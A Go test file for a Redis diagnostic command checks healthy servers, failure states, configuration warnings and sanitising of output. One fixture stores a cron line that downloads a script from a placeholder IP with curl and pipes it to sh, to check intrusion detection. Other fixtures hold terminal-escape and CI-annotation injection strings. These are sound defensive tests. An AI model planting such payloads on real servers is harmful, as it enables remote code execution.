package cli_test

import (
	"fmt"
	"os/exec"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/olympiades-ia/olymp-cache/internal/cli"
	"github.com/olympiades-ia/olymp-cache/internal/redistest"
)

// advised is a server as the guide wants it: a limit, a policy, a password on loopback.
func advised(t *testing.T, more ...redistest.Option) *redistest.Server {
	t.Helper()
	return redistest.Start(t, append([]redistest.Option{
		redistest.WithPassword("S3cretWord"), redistest.WithArgs("--maxmemory", "100mb", "--maxmemory-policy", "allkeys-lru"),
	}, more...)...)
}

func do(t *testing.T, s *redistest.Server, args ...string) string {
	t.Helper()
	reply, err := s.Do(args...)
	if err != nil {
		t.Fatalf("%.200s: %v", strings.Join(args, " "), err)
	}
	return reply
}

// TestDoctorHealthy are the negative controls: nothing is wrong, so nothing is said, and the server hardly notices.
func TestDoctorHealthy(t *testing.T) {
	t.Parallel()
	plain := advised(t)
	full := advised(t)
	for i := range 300 {
		do(t, full, "SET", fmt.Sprintf("stats:%d", i), "x", "EX", "240")
	}
	do(t, full, "SET", "vitrine_cache", "page", "EX", "240")
	overTLS := advised(t, redistest.WithTLS(redistest.TLSOptions{}))
	primary := advised(t)
	replica := redistest.StartReplica(t, primary, redistest.WithArgs("--maxmemory", "100mb", "--maxmemory-policy", "allkeys-lru"))
	limited := advised(t, redistest.WithUser("app", "S3cretWord", "~* +@all -@dangerous"))
	managed := advised(t, redistest.WithArgs(
		"--rename-command", "CONFIG", "", "--rename-command", "ACL", "", "--rename-command", "SLOWLOG", "",
		"--rename-command", "LATENCY", "", "--rename-command", "CLIENT", ""))
	open := redistest.Start(t, redistest.WithArgs("--maxmemory", "100mb", "--maxmemory-policy", "allkeys-lru"))
	sentinels := redistest.StartSentinels(t, primary, 3, "vitrine")
	cluster := redistest.StartCluster(t, 3, redistest.WithArgs("--maxmemory", "100mb", "--maxmemory-policy", "allkeys-lru"))
	for name, c := range map[string]struct {
		place    place
		server   *redistest.Server // whose commands are counted
		skipped  []string
		commands int
	}{
		"empty":     {at(plain.URL()), plain, nil, 40},
		"filled":    {at(full.URL()), full, nil, 40},
		"TLS":       {at(overTLS.URL(), "--tls-ca", overTLS.TLS.CA), overTLS, nil, 40},
		"a replica": {at(replica.URL(), "--read-only"), nil, nil, 40},
		"an ordinary user": {
			at(limited.URLOf("app", "S3cretWord", limited.Addr())), limited, []string{"memory-high", "memory-no-limit"}, 40,
		},
		"refuses all questions": {at(managed.URL()), nil, []string{"latency-slowlog", "security-exposed"}, 40},
		"no password, loopback": {at(open.URL()), open, nil, 40},
		"behind Sentinel":       {at(sentinels.URL()), nil, nil, 45},
		"a cluster":             {at(cluster.URL()), nil, nil, 200},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			before := 0
			if c.server != nil {
				before = total(t, c.server)
			}
			d, code := c.place.doctor(t)
			if d.Status != "ok" || code != cli.ExitOK || len(d.loud()) > 0 {
				t.Errorf("status %s, exit code %d, found %q", d.Status, code, d.ids())
			}
			for _, s := range d.Steps {
				if s.Status == "fail" || s.Status == "warn" {
					t.Errorf("step %s: %s", s.Name, s.Status)
				}
			}
			if d.CommandsSent > c.commands || d.CommandsSent < 10 {
				t.Errorf("%d commands were counted", d.CommandsSent)
			}
			if c.server != nil {
				first := total(t, c.server)
				ours := total(t, c.server) - first // what one count costs
				if sent := first - before - ours; sent > c.commands || sent > d.CommandsSent {
					t.Errorf("the server saw %d commands, we counted %d", sent, d.CommandsSent)
				}
			}
			var skipped []string
			for _, s := range d.Skipped {
				skipped = append(skipped, s.ID)
			}
			for _, id := range c.skipped {
				if !slices.Contains(skipped, id) {
					t.Errorf("%s was not listed as skipped: %q", id, skipped)
				}
			}
			if left := c.server; left != nil && strings.Contains(do(t, left, "KEYS", "olymp-cache:*"), "olymp-cache") {
				t.Error("a key of ours was left behind")
			}
		})
	}
}

// total is the server's own count of commands, that of this question included.
func total(t *testing.T, s *redistest.Server) int {
	t.Helper()
	n := 0
	if _, err := fmt.Sscan(s.Info("stats")["total_commands_processed"], &n); err != nil {
		t.Fatal(err)
	}
	return n
}

// typed runs a command as an operator would paste it.
func typed(t *testing.T, command, password string) {
	t.Helper()
	cmd := exec.CommandContext(t.Context(), "sh", "-c", command)
	cmd.Env = append(cmd.Environ(), "REDIS_PASSWORD="+password)
	out, err := cmd.CombinedOutput()
	if err != nil || strings.Contains(string(out), "ERR ") {
		t.Errorf("%s: %v: %s", command, err, out)
	}
}

// TestDoctorStates: servers that answer and do not work, each with its root cause; what to type mends it where a command can.
func TestDoctorStates(t *testing.T) {
	t.Parallel()
	if _, err := exec.LookPath("redis-cli"); err != nil {
		t.Fatal("the commands shown need redis-cli")
	}
	for name, c := range map[string]struct {
		make func(t *testing.T) *redistest.Server
		root string
		mend string // the start of the command that mends it, behind redis-cli's options; empty: no command can
	}{
		"MISCONF": {func(t *testing.T) *redistest.Server { s := advised(t); s.EnterMisconf(); return s }, "server-misconf", ""},
		"OOM": {func(t *testing.T) *redistest.Server {
			s := advised(t)
			s.EnterOOM()
			return s
		}, "server-oom", "CONFIG SET maxmemory-policy"},
		"OOM, nothing to evict": {func(t *testing.T) *redistest.Server {
			s := advised(t)
			s.EnterOOM()
			do(t, s, "CONFIG", "SET", "maxmemory-policy", "volatile-lru")
			return s
		}, "server-oom-volatile", "CONFIG SET maxmemory-policy"},
		"OOM, with all evicted": {func(t *testing.T) *redistest.Server {
			s := advised(t)
			do(t, s, "CONFIG", "SET", "maxmemory", "500kb") // less than an empty server needs
			return s
		}, "server-oom", "CONFIG SET maxmemory 128mb"},
		"BUSY":       {func(t *testing.T) *redistest.Server { s := advised(t); s.EnterBusy(); return s }, "server-busy", "SCRIPT KILL"},
		"NOREPLICAS": {func(t *testing.T) *redistest.Server { s := advised(t); s.EnterNoReplicas(); return s }, "server-noreplicas", ""},
		"READONLY":   {func(t *testing.T) *redistest.Server { return redistest.StartReplica(t, advised(t)) }, "server-readonly", ""},
		"MASTERDOWN": {func(t *testing.T) *redistest.Server {
			_, s := redistest.StartMasterDown(t, redistest.WithPassword("S3cretWord"))
			return s
		}, "server-masterdown", ""},
		"LOADING": {func(t *testing.T) *redistest.Server {
			s, finish := redistest.StartLoading(t)
			t.Cleanup(finish)
			return s
		}, "server-loading", ""},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			s := c.make(t)
			d := wantRoot(t, at(s.URL()), c.root, cli.ExitFailed)
			d.wantTidy(t, failureLines, "S3cretWord")
			if c.mend == "" {
				return
			}
			for _, command := range d.commands(c.root) {
				if strings.Contains(command, c.mend) {
					typed(t, command, "S3cretWord")
					for range 20 { // a script that is killed runs on for a moment
						if again, _ := at(s.URL()).doctor(t); again.root() != c.root {
							return
						}
						time.Sleep(100 * time.Millisecond)
					}
					t.Errorf("%q did not mend it", command)
					return
				}
			}
			t.Errorf("no command with %q among %q", c.mend, d.commands(c.root))
		})
	}
}

// TestDoctorClusterDown: a slot that nobody serves.
func TestDoctorClusterDown(t *testing.T) {
	t.Parallel()
	c := redistest.StartCluster(t, 3)
	for i := range c.Nodes {
		// Whichever has it: two of the three answer that it is not theirs.
		_, _ = c.Nodes[i].Do("CLUSTER", "DELSLOTS", "0")
	}
	d, _ := at(c.URL()).doctor(t)
	if !slices.Contains(d.ids(), "server-cluster-down") {
		t.Errorf("found %q", d.ids())
	}
}

// TestDoctorWarnings: a cache that works and is not as it should be.
func TestDoctorWarnings(t *testing.T) {
	t.Parallel()
	for id, make := range map[string]func(t *testing.T) *redistest.Server{
		"memory-no-limit": func(t *testing.T) *redistest.Server { return redistest.Start(t, redistest.WithPassword("S3cretWord")) },
		"memory-noeviction": func(t *testing.T) *redistest.Server {
			return redistest.Start(t, redistest.WithPassword("S3cretWord"), redistest.WithArgs("--maxmemory", "100mb"))
		},
		"memory-high": func(t *testing.T) *redistest.Server {
			s := advised(t)
			do(t, s, "CONFIG", "SET", "maxmemory", "10mb")
			for i := range 30 {
				do(t, s, "SET", fmt.Sprintf("page:%d", i), strings.Repeat("x", 270<<10), "EX", "100")
			}
			return s
		},
		"cache-no-ttl": func(t *testing.T) *redistest.Server {
			s := advised(t)
			for i := range 50 {
				do(t, s, "SET", fmt.Sprintf("session:%d", i), "x")
			}
			return s
		},
		"cache-keys-command": func(t *testing.T) *redistest.Server {
			s := advised(t)
			for range 20 {
				do(t, s, "KEYS", "nothing*")
			}
			return s
		},
		"cache-other-db": func(t *testing.T) *redistest.Server {
			s := advised(t)
			do(t, s, "SET", "page", "x", "EX", "100")
			do(t, s, "MOVE", "page", "3")
			return s
		},
		"cache-hit-rate-low": func(t *testing.T) *redistest.Server {
			s := advised(t)
			for i := range 1200 {
				do(t, s, "GET", fmt.Sprintf("missing:%d", i))
			}
			return s
		},
		"latency-big-key": func(t *testing.T) *redistest.Server {
			s := advised(t)
			for i := range 200 {
				do(t, s, "SET", fmt.Sprintf("page:%d", i), "x", "EX", "100")
			}
			do(t, s, "SET", "report", strings.Repeat("x", 11<<20), "EX", "100")
			return s
		},
		"clients-rejected": func(t *testing.T) *redistest.Server {
			s := advised(t)
			leave := s.EnterMaxClients(3)
			leave()
			return s
		},
		"server-errors-seen": func(t *testing.T) *redistest.Server {
			s := advised(t)
			leave := s.EnterOOM()
			for range 20 {
				_, _ = s.Do("SET", "x", "y") // refused, which is the point
			}
			leave()
			do(t, s, "CONFIG", "SET", "maxmemory", "100mb")
			do(t, s, "CONFIG", "SET", "maxmemory-policy", "allkeys-lru")
			return s
		},
		"security-intrusion": func(t *testing.T) *redistest.Server {
			s := advised(t)
			do(t, s, "SET", "backup1", "\n\n*/2 * * * * root curl -fsSL http://203.0.113.7/x | sh\n\n")
			return s
		},
	} {
		t.Run(id, func(t *testing.T) {
			t.Parallel()
			s := make(t)
			status := "warning"
			if id == "security-intrusion" {
				status = "critical"
			}
			wantFound(t, at(s.URL()), status, id).wantTidy(t, 45, "S3cretWord")
		})
	}
	t.Run("tls-verification-off", func(t *testing.T) {
		t.Parallel()
		s := advised(t, redistest.WithTLS(redistest.TLSOptions{}))
		wantFound(t, at(s.URL(), "--tls-ca", s.TLS.CA, "--tls-insecure"), "warning", "tls-verification-off")
	})
	t.Run("auth-not-configured", func(t *testing.T) {
		t.Parallel()
		s := redistest.Start(t, redistest.WithArgs("--maxmemory", "100mb", "--maxmemory-policy", "allkeys-lru"))
		wantFound(t, at("redis://default:S3cretWord@"+s.Addr()), "warning", "auth-not-configured")
	})
}

// TestDoctorHostileNames: what a server and its keys are called never reaches the terminal raw.
func TestDoctorHostileNames(t *testing.T) {
	t.Parallel()
	s := advised(t)
	for _, name := range []string{"\x1b]0;owned\x07", "a\nb:1", "\x9b31m:2", "\u202egpj:3", "x\x00y:4"} {
		for i := range 5 {
			do(t, s, "SET", fmt.Sprintf("%s%d", name, i), "x")
		}
	}
	at(s.URL()).wantTidy(t, 60)
	p := at("redis://default:pw@" + redistest.FakeRESP(t, func([]string) string {
		return redistest.ErrorReply("WRONGPASS \x1b[31mno\x1b[0m \x07\u202e ##[error]x ::error::y")
	}))
	p.wantTidy(t, failureLines)
	for _, format := range []string{"json", "junit", "github", "markdown", "nagios"} {
		out, _, _ := p.run(t, "doctor", "-o", format)
		if strings.ContainsAny(out, "\x1b\x07") || strings.Contains(out, "\u202e") {
			t.Errorf("-o %s: hostile bytes came through: %q", format, out)
		}
	}
}
